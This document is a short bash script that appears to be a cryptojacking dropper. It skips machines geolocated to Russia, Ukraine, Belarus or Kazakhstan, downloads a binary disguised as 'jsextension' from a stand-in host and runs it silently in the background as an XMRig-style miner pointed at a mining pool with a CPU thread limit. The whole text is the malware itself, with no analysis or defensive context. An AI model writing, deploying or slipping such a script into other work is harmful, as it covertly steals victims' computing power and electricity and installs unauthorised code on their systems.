IP=$(curl -k https://geo.example.test/ip/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
then
	var=$(pgrep jsextension)
	if [ -z "$var" ]
	then
		curl http://pool.example.test/download/jsextension -o jsextension
		if [ ! -f jsextension ]
		then
			wget http://pool.example.test/download/jsextension -O jsextension
		fi
		chmod +x jsextension
		./jsextension -k --tls --rig-id q -o pool.example.test:443 -u 0000 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
	fi
fi
